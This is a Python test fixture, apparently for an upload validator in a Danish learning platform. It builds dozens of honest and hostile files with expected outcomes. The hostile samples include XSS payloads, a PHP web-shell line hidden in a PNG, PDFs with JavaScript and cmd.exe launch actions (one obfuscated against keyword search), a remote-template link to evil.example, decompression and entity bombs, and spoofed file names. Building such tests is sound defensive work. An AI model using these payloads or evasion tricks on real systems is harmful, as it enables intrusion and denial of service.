"""61 files somebody might upload, honest and hostile, each made here byte by byte."""

import io
import struct
import zipfile
import zlib

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from lms.formats.pdf import simple_document
from tests.formats import workbooks

PDF = simple_document("Ugekortet", ["Hvad gør vi i denne uge?"])
SCRIPT = b"<script>alert(document.domain)</script>"
SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
# Harmless, and known to every virus scanner; in two halves, so that none stops at this file.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"
TYPES = b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
WORD = '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Hej</w:t></w:r></w:p></w:body></w:document>'
SLIDE = '<p:sld xmlns:p="p" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:p><a:t>Hej</a:t></a:p></p:sld>'
PEOPLE = [["Navn", "E-mail", "Kommune"], ["Asta Lynggaard", "asta.lynggaard@viborg.example", "Viborg"]]
PEOPLE_CSV = "\r\n".join(";".join(row) for row in PEOPLE).encode()
METADATA = b'<?xml version="1.0"?><EntityDescriptor/>'


def zipped(parts, how=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", how) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def docx(**more):
    return zipped({"[Content_Types].xml": TYPES, "word/document.xml": WORD} | more)


def pptx(**more):
    return zipped({"[Content_Types].xml": TYPES, "ppt/slides/slide1.xml": SLIDE} | more)


def xlsx():
    return workbooks.workbook("".join(workbooks.row(number, *row) for number, row in enumerate(PEOPLE, start=1)))


def with_part(data, name, content=b"x"):
    """The archive ``data`` with one more part."""
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
    return out.getvalue()


def fetching(kind):
    return (
        '<Relationships xmlns="r"><Relationship Id="r1" '
        f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
        'Target="https://evil.example/x" TargetMode="External"/></Relationships>'
    )


def linked_docx(kind):
    return with_part(docx(), "word/_rels/document.xml.rels", fetching(kind))


def pdf_with(**root):
    """A page, and something in the catalogue of the file."""
    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    for name, value in root.items():
        writer.root_object[NameObject(f"/{name}")] = value
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def action(kind, **more):
    names = {NameObject("/S"): NameObject(f"/{kind}")}
    return DictionaryObject(names | {NameObject(f"/{key}"): TextStringObject(value) for key, value in more.items()})


def pdf_with_attachment():
    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    writer.add_attachment("run.exe", b"MZ")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_in_code():
    """/JavaScript written as a name with a sign in code, and so is /JS: a search for the words finds nothing."""
    plain = pdf_with(OpenAction=action("JavaScript", JS="app.alert(1)"))
    return plain.replace(b"/JavaScript", b"/Java#53cript").replace(b"/JS", b"/#4a#53")


def picture(kind, size=(40, 30), mode="RGB", **saved):
    out = io.BytesIO()
    Image.new(mode, size, 120 if mode in {"L", "P"} else None).save(out, kind, **saved)
    return out.getvalue()


def with_place():
    """A photo lying on its side, with the place it was taken at and the name of who took it."""
    exif = Image.Exif()
    exif[0x0112], exif[0x013B] = 6, "Fotograf Fisk"
    exif.get_ifd(0x8825).update({1: "N", 2: (56.0, 27.0, 0.0), 3: "E", 4: (9.0, 24.0, 0.0)})
    return picture("JPEG", exif=exif)


def png_claiming(width, height):
    """A few bytes that say they are a picture of any size."""
    head = struct.pack("!IIBBBBB", width, height, 8, 2, 0, 0, 0)
    rows = zlib.compress(b"\0" * 1000)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", rows) + _chunk(b"IEND", b"")


def _chunk(kind, data):
    return struct.pack("!I", len(data)) + kind + data + struct.pack("!I", zlib.crc32(kind + data))


def bomb(unpacked, folder="word/document.xml"):
    return zipped({"[Content_Types].xml": TYPES, folder: b"\0" * unpacked})


def many_parts(count):
    return zipped({"[Content_Types].xml": TYPES, "word/document.xml": WORD} | {f"word/{n}": b"" for n in range(count)})


def laughing_docx():
    """Entities that stand for one another, ten times each."""
    steps = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 9))
    return docx(**{"word/document.xml": f'<!DOCTYPE d [<!ENTITY l0 "ha">{steps}]><d>&l8;</d>'})


# What happens to each: as a document, as a picture, as a list of people, as a work account's metadata.
# S: stored, or read. -: refused. Names as a browser sends them; 61 lines.
UPLOADS = [
    # Honest files.
    ("ugekort.pdf", PDF, "S---"),
    ("plan.docx", docx(), "S---"),
    ("liste.xlsx", xlsx(), "S-S-"),
    ("oplaeg.pptx", pptx(), "S---"),
    ("noter.txt", "Blåbær".encode(), "S---"),
    ("liste.csv", PEOPLE_CSV, "--S-"),
    ("lyd.mp3", b"ID3\x04" + b"\0" * 100, "S---"),
    ("lyd.m4a", b"\0\0\0\x20ftypM4A " + b"\0" * 100, "S---"),
    ("foto.jpg", picture("JPEG"), "-S--"),
    ("foto.jpeg", picture("JPEG"), "-S--"),
    ("kort.png", picture("PNG", mode="RGBA"), "-S--"),
    ("kort.webp", picture("WEBP"), "-S--"),
    ("med-sted.jpg", with_place(), "-S--"),
    # Kinds nobody takes.
    ("tegning.svg", SVG, "----"),
    ("side.html", SCRIPT, "----"),
    ("program.exe", b"MZ\x90\0", "----"),
    ("makro.docm", docx(), "----"),
    ("makro.xlsm", xlsx(), "--S-"),  # read cell by cell, whatever it is called, and kept nowhere
    ("arkiv.zip", zipped({"a": b"b"}), "----"),
    ("billede.gif", picture("GIF"), "----"),
    ("intet-efternavn", PDF, "----"),
    # Another thing under an honest name.
    ("side.pdf", b"<html>" + SCRIPT, "----"),
    ("side.txt", b"<!DOCTYPE html>" + SCRIPT, "----"),
    ("side2.txt", b"x" * 9000 + SCRIPT, "----"),
    ("tegning.png", SVG, "----"),
    ("tegning.jpg", b"\xff\xd8\xff" + SVG, "----"),
    ("program.pdf", b"MZ\x90\0" + PDF, "----"),
    ("program.docx", b"MZ\x90\0" + docx(), "----"),
    ("regneark.docx", xlsx(), "--S-"),
    ("foto.png", picture("JPEG"), "----"),
    ("gammel.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "----"),
    ("tom.pdf", b"", "----"),
    ("tom.png", b"", "----"),
    ("halv.pdf", PDF[:-800], "----"),
    ("halv.jpg", picture("JPEG", size=(400, 300))[:-300], "----"),
    # Two things in one.
    ("pdf-og-zip.pdf", PDF + zipped({"a": b"b" * 3000}, zipfile.ZIP_STORED), "----"),
    ("jpg-og-side.jpg", picture("JPEG") + SCRIPT, "-S--"),  # drawn anew: the rest is gone
    ("jpg-og-zip.jpg", picture("JPEG") + zipped({"a": SCRIPT}), "-S--"),
    ("png-med-ord.png", picture("PNG") + b"<?php system($_GET['c']);", "-S--"),
    # What runs.
    ("script.pdf", pdf_with(OpenAction=action("JavaScript", JS="app.alert(1)")), "----"),
    ("script-i-kode.pdf", pdf_in_code(), "----"),
    ("start.pdf", pdf_with(OpenAction=action("Launch", F="cmd.exe")), "----"),
    ("vedhaeftet.pdf", pdf_with_attachment(), "----"),
    ("makro.docx", docx(**{"word/vbaProject.bin": b"x"}), "----"),
    ("makro.xlsx", with_part(xlsx(), "xl/vbaProject.bin"), "--S-"),
    ("makro.pptx", pptx(**{"ppt/vbaProject.bin": b"x"}), "----"),
    ("styring.docx", docx(**{"word/activeX/activeX1.xml": b"<x/>"}), "----"),
    ("pakket.docx", docx(**{"word/embeddings/oleObject1.bin": b"x"}), "----"),
    ("skabelon.docx", linked_docx("attachedTemplate"), "----"),
    # Too much.
    ("bombe.docx", bomb(150 * 1024 * 1024), "----"),
    ("bombe.xlsx", bomb(30 * 1024 * 1024, "xl/workbook.xml"), "----"),
    ("mange.pptx", zipped({"[Content_Types].xml": TYPES} | {f"ppt/{n}": b"" for n in range(2_500)}), "----"),
    ("latter.docx", laughing_docx(), "----"),
    ("bombe.png", png_claiming(30_000, 30_000), "----"),
    ("bred.png", png_claiming(2_000_000, 20), "----"),
    # Names.
    ("regning.pdf.exe", PDF, "----"),
    ("regning.exe.pdf", PDF, "----"),
    ("regning\u202efdp.exe", PDF, "----"),
    (f"{'n' * 496}.pdf", PDF, "S---"),  # cut to what a name may be
    # What a scanner is for.
    ("eicar.txt", EICAR, "S---"),
    ("metadata.xml", METADATA, "----"),
]
